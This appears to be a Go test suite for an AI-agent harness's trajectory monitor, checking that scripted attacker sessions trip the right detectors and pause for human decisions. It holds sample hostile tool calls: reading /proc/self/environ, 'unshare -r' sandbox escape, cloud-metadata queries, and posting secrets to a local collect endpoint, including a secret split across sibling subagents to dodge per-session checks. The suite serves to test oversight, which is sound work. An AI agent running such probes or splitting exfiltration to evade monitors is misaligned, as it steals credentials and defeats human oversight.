package engine_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	lt "github.com/longhaul-dev/longhaul/longhaultype"
)

// allLog sets every detector's action to log: the attackers run to their
// end, and each finding is only journaled.
func allLog() *lt.MonitorSpec {
	m := &lt.MonitorSpec{Detectors: map[string]lt.MonitorDetectorSpec{}}
	for _, n := range []string{"refused_connections", "secret_probe", "capability_widening", "escape_signatures", "secret_like_egress", "repeated_failure"} {
		m.Detectors[n] = lt.MonitorDetectorSpec{Action: lt.MonitorLog}
	}
	return m
}

// calls scripts one step per call, then a final answer.
func calls(t *testing.T, cs ...string) string {
	t.Helper()
	steps := make([]string, 0, len(cs)+1)
	for _, c := range cs {
		steps = append(steps, `{"tool_calls":[`+c+`]}`)
	}
	return "[" + strings.Join(append(steps, `{"text":"done"}`), ",") + "]"
}

func shellCall(cmd string) string {
	raw, _ := json.Marshal(cmd)
	return `{"name":"shell","arguments":{"command":` + string(raw) + `}}`
}

func httpCall(url, body string) string {
	return fmt.Sprintf(`{"name":"http_request","arguments":{"method":"POST","url":%q,"body":%q}}`, url, body)
}

func monitorTools() []lt.ToolSpec {
	return []lt.ToolSpec{{Name: "shell"}, {Name: "read_file"}, {Name: "write_file"}, {Name: "http_request"}, {Name: "spawn_agent"}}
}

// findings are the session's monitor.finding events, by detector.
func findings(t *testing.T, h *harness, id string) map[string][]lt.MonitorFindingData {
	t.Helper()
	out := map[string][]lt.MonitorFindingData{}
	for _, ev := range events(t, h, id, lt.EventMonitorFinding) {
		d := data[lt.MonitorFindingData](t, ev)
		out[d.Detector] = append(out[d.Detector], d)
	}
	return out
}

// TestMonitorAttackersTripTheirDetectors: scripted attackers, each the
// same length as a benign session, trip their detector and only it; the
// benign session trips none. The evidence seqs name the events that show
// the attack.
func TestMonitorAttackersTripTheirDetectors(t *testing.T) {
	h := newHarness(t)
	filler := []string{shellCall("ls"), `{"name":"write_file","arguments":{"path":"a.txt","content":"hello"}}`, `{"name":"read_file","arguments":{"path":"a.txt"}}`}
	for _, tc := range []struct {
		detector string
		attack   []string
	}{
		{"", nil}, // benign
		{"refused_connections", []string{httpCall("http://10.0.0.1/", ""), httpCall("http://10.0.0.2/", ""), httpCall("http://169.254.169.254/latest/", "")}},
		{"secret_probe", []string{shellCall("cat /proc/self/environ | tr '\\0' '\\n'")}},
		{"capability_widening", []string{`{"name":"spawn_agent","arguments":{"agent_spec":{"model":{"provider":"scripted"},"tools":[{"name":"sqlite_query"}]},"input":"go"}}`}},
		{"escape_signatures", []string{shellCall("unshare -r true")}},
		{"secret_like_egress", []string{httpCall("http://127.0.0.1:9/collect", "k=Zx81vQ2mLp0Wr7TyC4kN9sAe3Hf6Ju")}},
		{"repeated_failure", []string{`{"name":"read_file","arguments":{"path":"missing.txt"}}`, shellCall("ls"), `{"name":"read_file","arguments":{"path":"missing.txt"}}`, shellCall("ls"), `{"name":"read_file","arguments":{"path":"missing.txt"}}`}},
	} {
		name := tc.detector
		if name == "" {
			name = "benign"
		}
		t.Run(name, func(t *testing.T) {
			script := append([]string(nil), tc.attack...)
			for len(script) < 8 {
				script = append(script, filler[len(script)%len(filler)])
			}
			sp := spec(t, calls(t, script...), monitorTools()...)
			sp.Monitor = allLog()
			s := create(t, h, sp, nil)
			s = h.waitStatus(s.ID, lt.SessionIdle)
			got := findings(t, h, s.ID)
			if tc.detector == "" {
				require.Empty(t, got, "a benign session trips no detector")
				return
			}
			require.Len(t, got[tc.detector], 1, "%v", got)
			require.Len(t, got, 1, "only its detector: %v", got)
			f := got[tc.detector][0]
			require.Equal(t, lt.MonitorLog, f.Action)
			require.NotEmpty(t, f.Evidence)
			evs := events(t, h, s.ID)
			for _, seq := range f.Evidence {
				require.LessOrEqual(t, seq, int64(len(evs)))
				typ := evs[seq-1].Type
				require.Contains(t, []string{lt.EventToolRequested, lt.EventToolFailed, lt.EventToolCompleted, lt.EventNetworkConnection}, typ)
				if tc.detector == "capability_widening" {
					require.Equal(t, lt.ToolFailedCapabilityWidening, data[lt.ToolFailedData](t, evs[seq-1]).Code, "the refused spawn carries its code")
				}
			}
			checkJournal(t, h.store, s.ID)
		})
	}
}

// TestMonitorAskThenContinue: an escape attempt (ask by default) parks
// the session on a monitor action before the call runs; the action
// survives a restart of the engine; continue lets the call run.
func TestMonitorAskThenContinue(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()
	s := create(t, h, spec(t, calls(t, shellCall("ls"), shellCall("unshare -r true; echo ran")), monitorTools()...), nil)
	s = h.waitStatus(s.ID, lt.SessionRequiresAction)
	require.Len(t, s.RequiredActions, 1)
	act := s.RequiredActions[0]
	require.Equal(t, lt.ActionMonitor, act.Type)
	require.NotNil(t, act.Finding)
	require.Equal(t, "escape_signatures", act.Finding.Detector)
	require.Equal(t, lt.MonitorAsk, act.Finding.Action)
	require.Contains(t, act.Summary, "unshare")
	// The call it asks about has not run.
	for _, ev := range events(t, h, s.ID, lt.EventToolStarted) {
		require.NotEqual(t, 2, data[lt.ToolStartedData](t, ev).Step, "the call waits for the decision")
	}

	h.restart("node-a")
	s = h.waitStatus(s.ID, lt.SessionRequiresAction)
	require.Len(t, s.RequiredActions, 1)
	require.Equal(t, act.ID, s.RequiredActions[0].ID, "still the one action after a restart")
	require.Len(t, findings(t, h, s.ID)["escape_signatures"], 1, "a claim's replay journals nothing twice")

	_, err := h.eng.DecideAction(ctx, s.ID, act.ID, &lt.Decision{Decision: "approve"})
	require.ErrorContains(t, err, "continue or stop")
	_, err = h.eng.DecideAction(ctx, s.ID, act.ID, &lt.Decision{Decision: lt.DecisionContinue, Answer: "x"})
	require.ErrorContains(t, err, "decision")
	got, err := h.eng.DecideAction(ctx, s.ID, act.ID, &lt.Decision{Decision: lt.DecisionContinue})
	require.NoError(t, err)
	require.Equal(t, lt.ActionResolved, got.Status)
	s = h.waitStatus(s.ID, lt.SessionIdle)
	require.Empty(t, s.RequiredActions)
	var ran bool
	for _, ev := range events(t, h, s.ID, lt.EventToolCompleted) {
		ran = ran || strings.Contains(string(ev.Data), `ran\n`)
	}
	require.True(t, ran, "the call ran once the person let it")
	require.Len(t, findings(t, h, s.ID)["escape_signatures"], 1)
	resolvedAtStep(t, h, s.ID, act)
	checkJournal(t, h.store, s.ID)
}

// TestMonitorAskThenStop: a person stops the turn at a monitor action.
func TestMonitorAskThenStop(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()
	s := create(t, h, spec(t, calls(t, httpCall("http://127.0.0.1:9/x", "t=Zx81vQ2mLp0Wr7TyC4kN9sAe3Hf6Ju")), monitorTools()...), nil)
	s = h.waitStatus(s.ID, lt.SessionRequiresAction)
	act := s.RequiredActions[0]
	require.Equal(t, "secret_like_egress", act.Finding.Detector)
	require.NotContains(t, act.Summary, "Zx81vQ2m", "the string itself is not in the finding")
	_, err := h.eng.DecideAction(ctx, s.ID, act.ID, &lt.Decision{Decision: lt.DecisionStop, Reason: "exfiltration"})
	require.NoError(t, err)
	s = h.waitStatus(s.ID, lt.SessionFailed)
	require.Equal(t, lt.StopStopped, *s.StopReason)
	require.Empty(t, events(t, h, s.ID, lt.EventToolStarted), "the call never ran")
	failed := events(t, h, s.ID, lt.EventTurnFailed)
	require.Len(t, failed, 1)
	require.Contains(t, data[lt.TurnFailedData](t, failed[0]).Error, "exfiltration")
	resolvedAtStep(t, h, s.ID, act)
	checkJournal(t, h.store, s.ID)
}

// resolvedAtStep checks that the monitor action's action.resolved is
// journaled at the step of the call it was about, not at step 0.
func resolvedAtStep(t *testing.T, h *harness, id string, act lt.Action) {
	t.Helper()
	require.Positive(t, act.Step)
	var n int
	for _, ev := range events(t, h, id, lt.EventActionResolved) {
		if data[lt.ActionResolvedData](t, ev).ActionID == act.ID {
			n++
			require.Equal(t, act.Step, ev.Step, "action.resolved at the action's step")
			require.Equal(t, act.TurnID, ev.TurnID)
		}
	}
	require.Equal(t, 1, n)
}

// TestMonitorStopAction: a detector whose action is stop ends the turn,
// policy_violation, before the call it found runs.
func TestMonitorStopAction(t *testing.T) {
	h := newHarness(t)
	sp := spec(t, calls(t, shellCall("printenv"), shellCall("echo never")), monitorTools()...)
	sp.Monitor = &lt.MonitorSpec{Detectors: map[string]lt.MonitorDetectorSpec{"secret_probe": {Action: lt.MonitorStop}}}
	s := create(t, h, sp, nil)
	s = h.waitStatus(s.ID, lt.SessionFailed)
	require.Equal(t, lt.StopPolicyViolation, *s.StopReason)
	require.Empty(t, events(t, h, s.ID, lt.EventToolStarted), "the probe never ran")
	failed := events(t, h, s.ID, lt.EventTurnFailed)
	require.Contains(t, data[lt.TurnFailedData](t, failed[0]).Error, "trajectory monitor (secret_probe)")
	require.Len(t, findings(t, h, s.ID)["secret_probe"], 1)
	checkJournal(t, h.store, s.ID)
}

// TestMonitorSpecValidation: a bad monitor spec is refused, naming the
// field.
func TestMonitorSpecValidation(t *testing.T) {
	h := newHarness(t)
	for _, tc := range []struct {
		m     *lt.MonitorSpec
		field string
	}{
		{&lt.MonitorSpec{Detectors: map[string]lt.MonitorDetectorSpec{"telepathy": {}}}, "agent_spec.monitor.detectors.telepathy"},
		{&lt.MonitorSpec{Detectors: map[string]lt.MonitorDetectorSpec{"secret_probe": {Action: "block"}}}, "agent_spec.monitor.detectors.secret_probe.action"},
	} {
		sp := spec(t, `[{"text":"hi"}]`)
		sp.Monitor = tc.m
		_, err := h.eng.CreateSession(context.Background(), &lt.CreateSessionRequest{AgentSpec: sp, Input: "go"})
		require.ErrorContains(t, err, tc.field)
	}
}

// TestMonitorWatchesSubagents: a child spawned with a spec that turns the
// parent's detectors off is watched by the parent's monitor all the same.
func TestMonitorWatchesSubagents(t *testing.T) {
	h := newHarness(t)
	missing := `{"tool_calls":[{"name":"read_file","arguments":{"path":"missing.txt"}}]}`
	child := `{"model":{"provider":"scripted","script":[` + missing + `,` + missing + `,` + missing + `,{"text":"child done"}]},` +
		`"tools":[{"name":"read_file"}],"monitor":{"detectors":{"repeated_failure":{"off":true}}}}`
	sp := spec(t, calls(t,
		`{"name":"spawn_agent","arguments":{"agent_spec":`+child+`,"input":"look around"}}`,
		`{"name":"wait_agents","arguments":{}}`,
	), lt.ToolSpec{Name: "read_file"}, lt.ToolSpec{Name: "spawn_agent"}, lt.ToolSpec{Name: "wait_agents"})
	sp.Monitor = &lt.MonitorSpec{Detectors: map[string]lt.MonitorDetectorSpec{"repeated_failure": {Action: lt.MonitorStop}}}
	s := create(t, h, sp, nil)
	h.waitStatus(s.ID, lt.SessionIdle, lt.SessionFailed)
	spawned := events(t, h, s.ID, lt.EventSubagentSpawned)
	require.Len(t, spawned, 1)
	kid := data[lt.SubagentSpawnedData](t, spawned[0]).ChildID
	c := h.waitStatus(kid, lt.SessionFailed, lt.SessionIdle)
	require.Equal(t, lt.SessionFailed, c.Status)
	require.Equal(t, lt.StopPolicyViolation, *c.StopReason)
	require.Len(t, findings(t, h, kid)["repeated_failure"], 1)
}

// TestMonitorProbeInASpawnIsTheChilds: a parent whose spawn_agent call
// carries a probe in the child's script trips nothing itself; the child,
// which runs the probe, does.
func TestMonitorProbeInASpawnIsTheChilds(t *testing.T) {
	h := newHarness(t)
	probe := `{"tool_calls":[` + shellCall("cat /proc/self/environ") + `]}`
	child := `{"model":{"provider":"scripted","script":[` + probe + `,{"text":"child done"}]},"tools":[{"name":"shell"}]}`
	sp := spec(t, calls(t,
		`{"name":"spawn_agent","arguments":{"agent_spec":`+child+`,"input":"print /proc/self/environ and run printenv"}}`,
		`{"name":"wait_agents","arguments":{}}`,
	), lt.ToolSpec{Name: "shell"}, lt.ToolSpec{Name: "spawn_agent"}, lt.ToolSpec{Name: "wait_agents"})
	sp.Monitor = allLog()
	s := create(t, h, sp, nil)
	h.waitStatus(s.ID, lt.SessionIdle)
	spawned := events(t, h, s.ID, lt.EventSubagentSpawned)
	require.Len(t, spawned, 1)
	kid := data[lt.SubagentSpawnedData](t, spawned[0]).ChildID
	h.waitStatus(kid, lt.SessionIdle)
	require.Empty(t, findings(t, h, s.ID), "the parent only passed the text on")
	require.Len(t, findings(t, h, kid)["secret_probe"], 1, "the child ran the probe")
}

// TestMonitorTreeJoinsSiblingsFragments: two children each send less than
// half of a vault value toward a listed host; neither session's detectors
// see it alone, the tree's record joins them: one finding, in the child
// whose call completed it, naming the other child's call.
func TestMonitorTreeJoinsSiblingsFragments(t *testing.T) {
	const secret = "s3cr3t-vault-value-0123456789abcdef"
	h := newHarness(t)
	h.vault = &fakeVault{secrets: map[string]struct{ value, host string }{"DB_PASSWORD": {secret, "127.0.0.1"}}}
	h.restart("node-a")
	child := func(part string) string {
		send := `{"tool_calls":[` + httpCall("http://127.0.0.1:9/collect?p="+part, "") + `]}`
		return `{"model":{"provider":"scripted","script":[` + send + `,{"text":"sent"}]},"tools":[{"name":"http_request"}],"environment":{"network":{"allow":["127.0.0.1"]}}}`
	}
	sp := spec(t, calls(t,
		`{"name":"spawn_agent","arguments":{"agent_spec":`+child(secret[:12])+`,"input":"first"}}`,
		`{"name":"spawn_agent","arguments":{"agent_spec":`+child(secret[12:24])+`,"input":"second"}}`,
		`{"name":"wait_agents","arguments":{}}`,
	), lt.ToolSpec{Name: "http_request"}, lt.ToolSpec{Name: "spawn_agent"}, lt.ToolSpec{Name: "wait_agents"})
	sp.Environment = &lt.Environment{Network: &lt.NetworkSpec{Allow: []string{"127.0.0.1"}}}
	sp.Monitor = allLog()
	s := create(t, h, sp, nil)
	h.waitStatus(s.ID, lt.SessionIdle)
	spawned := events(t, h, s.ID, lt.EventSubagentSpawned)
	require.Len(t, spawned, 2)
	var all []lt.MonitorFindingData
	kids := map[string]bool{}
	for _, ev := range spawned {
		kid := data[lt.SubagentSpawnedData](t, ev).ChildID
		kids[kid] = true
		h.waitStatus(kid, lt.SessionIdle)
		all = append(all, findings(t, h, kid)["secret_like_egress"]...)
	}
	require.Empty(t, findings(t, h, s.ID))
	require.Len(t, all, 1, "one finding across the tree")
	f := all[0]
	require.Contains(t, f.Summary, "DB_PASSWORD")
	require.Contains(t, f.Summary, "2 sessions of the tree")
	require.Len(t, f.Evidence, 1)
	require.Len(t, f.TreeEvidence, 1)
	other := f.TreeEvidence[0]
	require.True(t, kids[other.SessionID])
	evs := events(t, h, other.SessionID)
	require.Equal(t, lt.EventToolRequested, evs[other.Seq-1].Type, "the other child's call")
	require.NotContains(t, string(evs[other.Seq-1].Data), secret, "whole values are redacted; halves are what the tree joins")
}
